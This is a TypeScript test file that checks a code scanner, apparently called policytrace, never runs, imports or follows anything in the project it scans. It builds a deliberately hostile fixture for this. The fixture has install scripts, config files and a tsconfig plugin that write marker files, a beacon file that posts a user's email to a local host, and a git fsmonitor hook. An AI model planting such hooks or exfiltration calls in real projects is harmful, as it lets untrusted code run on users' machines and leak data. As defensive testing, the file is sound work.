// The scanner reads code; it never runs it, never follows the project's build config out
// of the tree, and never touches the network. Proved on a project built to misbehave: its
// code, configs, package scripts and a tsconfig plugin each write a marker file if
// executed; its tsconfig `extends` a FIFO outside the tree, so reading it would hang; and
// the CLI runs in a child process under a preload that records every file opened, every
// socket, DNS lookup and fetch (and refuses them), and every process spawned.

import { execFileSync, spawnSync } from "node:child_process";
import { existsSync, readFileSync, realpathSync } from "node:fs";
import { join, sep } from "node:path";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { tempDir, write } from "./helpers.js";

const PACKAGE_ROOT = fileURLToPath(new URL("../../", import.meta.url));
// Dependencies load through fs too; node_modules may be a link (a worktree sharing one).
const DEPENDENCIES = realpathSync(join(PACKAGE_ROOT, "node_modules")) + sep;
const BIN = join(PACKAGE_ROOT, "bin/policytrace.js");

// CommonJS so it runs before the ESM CLI loads; syncBuiltinESMExports makes the CLI's
// `import { readFileSync } from "node:fs"` see the patched functions.
const TRACE = `
const fs = require("node:fs"), net = require("node:net"), dns = require("node:dns"), dgram = require("node:dgram");
const cp = require("node:child_process"), Module = require("node:module"), { fileURLToPath } = require("node:url");
const log = process.env.TRACE_LOG, append = fs.appendFileSync;
const record = (kind, detail) => append(log, JSON.stringify({ kind, detail: String(detail) }) + "\\n");
const asPath = (p) => (p instanceof URL || String(p).startsWith("file:") ? fileURLToPath(p) : String(p)); // the ESM loader reads by URL
const refuse = (what) => (...args) => { record("net", what + " " + args[0]); throw new Error("network refused by test preload: " + what); };
net.Socket.prototype.connect = refuse("socket.connect");
dgram.Socket.prototype.send = refuse("udp.send");
dns.lookup = refuse("dns.lookup");
dns.promises.lookup = refuse("dns.promises.lookup");
globalThis.fetch = refuse("fetch");
for (const name of ["openSync", "readFileSync", "open", "readFile", "createReadStream"]) {
  const orig = fs[name];
  fs[name] = function (p, ...rest) { if (typeof p !== "number") record("open", asPath(p)); return orig.call(this, p, ...rest); };
}
for (const name of ["open", "readFile"]) {
  const orig = fs.promises[name];
  fs.promises[name] = function (p, ...rest) { record("open", asPath(p)); return orig.call(this, p, ...rest); };
}
for (const name of ["spawn", "spawnSync", "execFile", "execFileSync", "exec", "execSync", "fork"]) {
  const orig = cp[name];
  cp[name] = function (file, args, ...rest) { record("spawn", [file, ...(Array.isArray(args) ? args : [])].join(" ")); return orig.call(this, file, args, ...rest); };
}
Module.syncBuiltinESMExports();
`;

interface Trace {
  kind: "open" | "net" | "spawn";
  detail: string;
}

function traced(base: string, args: string[], cwd: string): { status: number | null; stdout: string; trace: Trace[] } {
  const logFile = join(base, "trace.log");
  write(base, "trace.log", "");
  const r = spawnSync(process.execPath, ["--require", join(base, "trace.cjs"), ...args], {
    cwd,
    encoding: "utf8",
    timeout: 20_000, // reading the FIFO would block: fail, don't hang the suite
    env: { ...process.env, TRACE_LOG: logFile },
  });
  const trace = readFileSync(logFile, "utf8").split("\n").filter(Boolean).map((l) => JSON.parse(l) as Trace);
  return { status: r.status, stdout: r.stdout, trace };
}

const CONFIG_FILES = ["vite.config.ts", "jest.config.js", ".eslintrc.js", "babel.config.js", "policytrace.config.js"];

/** A project whose every executable part writes MARKER-<name> into `base` when run. */
function hostileProject(base: string): string {
  const app = join(base, "work", "app");
  const mark = (name: string) => JSON.stringify(join(base, `MARKER-${name}`));
  write(app, "src/index.ts", `import { writeFileSync } from "node:fs";\nwriteFileSync(${mark("ts")}, "ran");\nexport const f = (user: any) => console.log(user.email);\n`);
  write(app, "src/side.js", `require("node:fs").writeFileSync(${mark("js")}, "ran");\n`);
  write(app, "src/mod.mjs", `import fs from "node:fs";\nfs.writeFileSync(${mark("mjs")}, "ran");\nawait import("./side.js");\n`);
  write(app, "src/c.cjs", `require("node:fs").writeFileSync(${mark("cjs")}, "ran");\nmodule.exports = require("./side.js");\n`);
  write(app, "src/App.tsx", `import fs from "node:fs";\nimport { shout } from "some-package";\nfs.writeFileSync(${mark("tsx")}, "ran");\nexport const App = () => <input type="email" placeholder={shout("email")} />;\n`);
  write(app, "src/beacon.ts", `fetch("http://127.0.0.1:9/beacon", { method: "POST", body: JSON.stringify({ email }) });\nimport("node:net").then((n) => n.connect(9, "example.com"));\n`);
  for (const cfg of CONFIG_FILES) {
    write(app, cfg, `require("node:fs").writeFileSync(${mark(cfg)}, "ran");\nmodule.exports = {};\n`);
  }
  write(app, "package.json", JSON.stringify({
    name: "hostile", main: "src/side.js", type: "module",
    scripts: { preinstall: `node -e 'require("fs").writeFileSync(${mark("preinstall")}, "")'`, postinstall: "node src/side.js", prepare: "node src/c.cjs" },
  }));
  write(app, "tsconfig.json", JSON.stringify({
    extends: "../../outside/tsconfig.base.json",
    compilerOptions: { plugins: [{ name: "evil-plugin" }, { transform: "../../outside/transformer.js" }] },
  }));
  write(app, "node_modules/evil-plugin/package.json", JSON.stringify({ name: "evil-plugin", main: "index.js" }));
  write(app, "node_modules/evil-plugin/index.js", `require("node:fs").writeFileSync(${mark("plugin")}, "ran");\nmodule.exports = () => ({});\n`);
  write(base, "outside/transformer.js", `require("node:fs").writeFileSync(${mark("transformer")}, "ran");\n`);
  execFileSync("mkfifo", [join(base, "outside/tsconfig.base.json")]);
  return app;
}

describe("scanning never executes, imports or requires the scanned code, nor reads outside the tree", () => {
  it("the trace preload does record what it should (control)", () => {
    const base = tempDir();
    write(base, "trace.cjs", TRACE);
    write(base, "outside/secret.txt", "x");
    write(base, "probe.mjs", `import { readFileSync } from "node:fs";\nreadFileSync(${JSON.stringify(join(base, "outside/secret.txt"))});\ntry { await fetch("http://127.0.0.1:9/"); } catch {}\n`);
    const { trace } = traced(base, [join(base, "probe.mjs")], base);
    expect(trace).toContainEqual({ kind: "open", detail: join(base, "outside/secret.txt") });
    expect(trace).toContainEqual({ kind: "net", detail: "fetch http://127.0.0.1:9/" });
  });

  it("a project built to misbehave is scanned, and nothing in it runs, connects or is followed", () => {
    const base = tempDir();
    write(base, "trace.cjs", TRACE);
    const app = hostileProject(base);
    const { status, stdout, trace } = traced(base, [BIN, "scan", ".", "--all", "--format", "json"], app);
    expect(status).toBe(0);
    const report = JSON.parse(stdout) as { findings: { file: string }[] };
    // It did read the code: findings from the files that would have written markers.
    expect(new Set(report.findings.map((f) => f.file))).toEqual(new Set(["src/index.ts", "src/App.tsx", "src/beacon.ts"]));
    for (const name of ["ts", "js", "mjs", "cjs", "tsx", "vite.config.ts", "jest.config.js", ".eslintrc.js", "babel.config.js", "policytrace.config.js", "preinstall", "plugin", "transformer"]) {
      expect(existsSync(join(base, `MARKER-${name}`)), `MARKER-${name}`).toBe(false);
    }
    expect(trace.filter((t) => t.kind === "net")).toEqual([]);
    // Every file opened is the project's or policytrace's own (rules, package.json, dependencies).
    const opened = trace.filter((t) => t.kind === "open").map((t) => t.detail);
    const own = (p: string) => p.startsWith(app + sep) || p.startsWith(PACKAGE_ROOT) || p.startsWith(DEPENDENCIES);
    expect(opened.filter((p) => !own(p))).toEqual([]);
    expect([...new Set(opened.filter((p) => p.startsWith(app + sep)))].sort()).toEqual(
      ["src/App.tsx", "src/beacon.ts", "src/c.cjs", "src/index.ts", "src/mod.mjs", "src/side.js", "node_modules/evil-plugin/index.js", "tsconfig.json", "package.json", ...CONFIG_FILES.filter((f) => !f.startsWith("."))].map((f) => join(app, f)).sort(),
    );
    // tsconfig.json is read for module resolution (paths, baseUrl), as data: its `extends` out of
    // the tree (a FIFO here) is not followed and its plugins are never loaded.
    expect(opened).not.toContain(join(base, "outside/tsconfig.base.json"));
    // package.json is read as JSON, for the name a monorepo's packages import each other by
    // (a call of an import from "some-package" asks whether a package of the tree is named so); its scripts never run.
    // The one process spawned is git, asking for the commit to put in report headers.
    expect(trace.filter((t) => t.kind === "spawn").map((t) => t.detail)).toEqual(["git -c core.fsmonitor=false rev-parse HEAD --abbrev-ref HEAD"]);
  });

  it("a repository whose .git/config names an fsmonitor command does not get it run", () => {
    // git runs core.fsmonitor whenever it reads the index (check-ignore does), so a cloned
    // repository could execute anything through a scan that asks git what it ignores.
    const base = tempDir();
    write(base, "trace.cjs", TRACE);
    const repo = join(base, "repo");
    write(repo, "src/a.ts", "console.log(user.email);\n");
    write(repo, ".gitignore", "src/gen/\n");
    write(repo, "src/gen/b.ts", "console.log(user.email);\n");
    const git = (...args: string[]) => execFileSync("git", ["-c", "user.email=t@example.com", "-c", "user.name=t", ...args], { cwd: repo, stdio: "ignore" });
    git("init", "-q");
    git("add", ".");
    git("commit", "-q", "-m", "x");
    write(base, "hook.sh", `#!/bin/sh\ntouch ${JSON.stringify(join(base, "MARKER-fsmonitor"))}\nexit 1\n`);
    execFileSync("chmod", ["+x", join(base, "hook.sh")]);
    git("config", "core.fsmonitor", join(base, "hook.sh"));
    const { status, stdout, trace } = traced(base, [BIN, "scan", ".", "--format", "json"], repo);
    expect(status).toBe(0);
    expect((JSON.parse(stdout) as { findings: { file: string }[] }).findings.map((f) => f.file)).toEqual(["src/a.ts"]); // .gitignore honoured
    expect(existsSync(join(base, "MARKER-fsmonitor"))).toBe(false);
    const spawns = trace.filter((t) => t.kind === "spawn").map((t) => t.detail);
    expect(spawns.length).toBeGreaterThan(0);
    for (const s of spawns) expect(s).toMatch(/^git -c core\.fsmonitor=false /);
  });
});
